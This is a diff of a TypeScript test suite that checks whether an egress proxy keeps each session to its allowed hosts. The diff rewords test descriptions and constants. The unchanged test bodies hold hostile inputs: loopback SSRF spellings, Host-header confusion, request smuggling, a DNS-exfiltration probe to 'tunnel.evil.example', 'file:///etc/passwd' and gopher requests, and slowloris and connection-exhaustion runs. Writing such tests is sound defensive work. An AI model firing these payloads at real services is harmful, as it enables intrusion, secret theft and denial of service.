@@ -4,8 +4,8 @@ import { expect } from 'vitest';
 import { everywhere, type Row } from './row.ts';
 import type { World } from './world.ts';
 
-const LISTED = 'A session with a list of hosts reaches those hosts, and nobody else.';
-const OWN = 'What one session does with its proxy holds up no other.';
+const LISTED = 'A session with a list of hosts reaches only those hosts.';
+const OWN = 'The proxy traffic of one session does not delay others.';
 
 const LISTED_HOST = '127.0.0.3';
 
@@ -105,12 +105,12 @@ export const proxyRows: readonly Row[] = [
     { quick: true },
   ),
   row(
-    'asks for pages of the host’s loopback, in 30 spellings',
+    'requests pages of the host’s loopback, in 30 spellings',
     ({ loopbackPort }) =>
       `[speak('GET http://%s/ HTTP/1.1\\r\\nHost: %s\\r\\nConnection: close\\r\\n\\r\\n' % (to, to)) for to in ${latin(spellings(loopbackPort))}]`,
   ),
   row(
-    'names one host in the line and another in the header',
+    'names one host in the request line and another in the header',
     ({ loopbackPort }) => `
 pairs = [('http://${LISTED_HOST}:9/', '127.0.0.1:${loopbackPort}'), ('http://127.0.0.1:${loopbackPort}/', '${LISTED_HOST}:9'), ('/', '127.0.0.1:${loopbackPort}'), ('http://allowed.example@127.0.0.1:${loopbackPort}/', 'allowed.example')]
 [speak('GET %s HTTP/1.1\\r\\nHost: %s\\r\\nConnection: close\\r\\n\\r\\n' % pair) for pair in pairs]`,
@@ -123,13 +123,13 @@ heads = ['Content-Length: 4\\r\\nContent-Length: 0', 'Content-Length: 4\\r\\nTra
 [speak('POST http://${LISTED_HOST}:9/ HTTP/1.1\\r\\nHost: ${LISTED_HOST}:9\\r\\n%s\\r\\n\\r\\n0\\r\\n\\r\\n%s' % (head, second)) for head in heads]`,
   ),
   row(
-    'asks for an upgrade to another protocol',
+    'requests an upgrade to another protocol',
     ({ loopbackPort }) => `
 [speak('GET http://127.0.0.1:${loopbackPort}/ HTTP/1.1\\r\\nHost: 127.0.0.1:${loopbackPort}\\r\\nConnection: Upgrade\\r\\nUpgrade: websocket\\r\\nSec-WebSocket-Version: 13\\r\\nSec-WebSocket-Key: AAAAAAAAAAAAAAAAAAAAAA==\\r\\n\\r\\n'),
  speak('OPTIONS * HTTP/1.1\\r\\nHost: 127.0.0.1:${loopbackPort}\\r\\n\\r\\n'), speak('PRI * HTTP/2.0\\r\\n\\r\\nSM\\r\\n\\r\\n')]`,
   ),
   row(
-    'tells a secret by the names that it has looked up',
+    'leaks a secret through DNS lookups',
     () => `
 import time
 began = time.monotonic()
@@ -137,14 +137,14 @@ answers = [speak('CONNECT %s.tunnel.evil.example:443 HTTP/1.1\\r\\nHost: x\\r\\n
 answers + ['looked up' for answer in answers if 'not_listed' not in answer and '400' not in answer.split('\\r\\n')[0]]`,
   ),
   row(
-    'writes requests that are none',
+    'sends invalid requests',
     () => `
 import os
 [speak(text) for text in ('\\r\\n' * 1000, 'CONNECT', 'CONNECT \\r\\n\\r\\n', 'CONNECT x:99999 HTTP/1.1\\r\\n\\r\\n', 'CONNECT x:-1 HTTP/1.1\\r\\n\\r\\n', 'CONNECT [::1 HTTP/1.1\\r\\n\\r\\n', 'GET http:// HTTP/1.1\\r\\n\\r\\n', 'GET http://[/ HTTP/1.1\\r\\n\\r\\n',
                             'GET file:///etc/passwd HTTP/1.1\\r\\nHost: x\\r\\n\\r\\n', 'GET gopher://127.0.0.1:25/x HTTP/1.1\\r\\nHost: x\\r\\n\\r\\n', '\\x05\\x01\\x00', '\\x04\\x01\\x00\\x50\\x7f\\x00\\x00\\x01\\x00', 'CONNECT ' + 'a' * 100_000 + ' HTTP/1.1\\r\\n\\r\\n')]`,
   ),
   row(
-    'sends headers without an end, slowly and at once',
+    'sends endless headers, slowly and at once',
     () => `
 held = []
 for _ in range(100):
@@ -158,7 +158,7 @@ answers`,
     OWN,
   ),
   row(
-    'opens all the connections that it can, and leaves them half closed',
+    'opens as many connections as possible, and leaves them half closed',
     () => `
 held = []
 try:
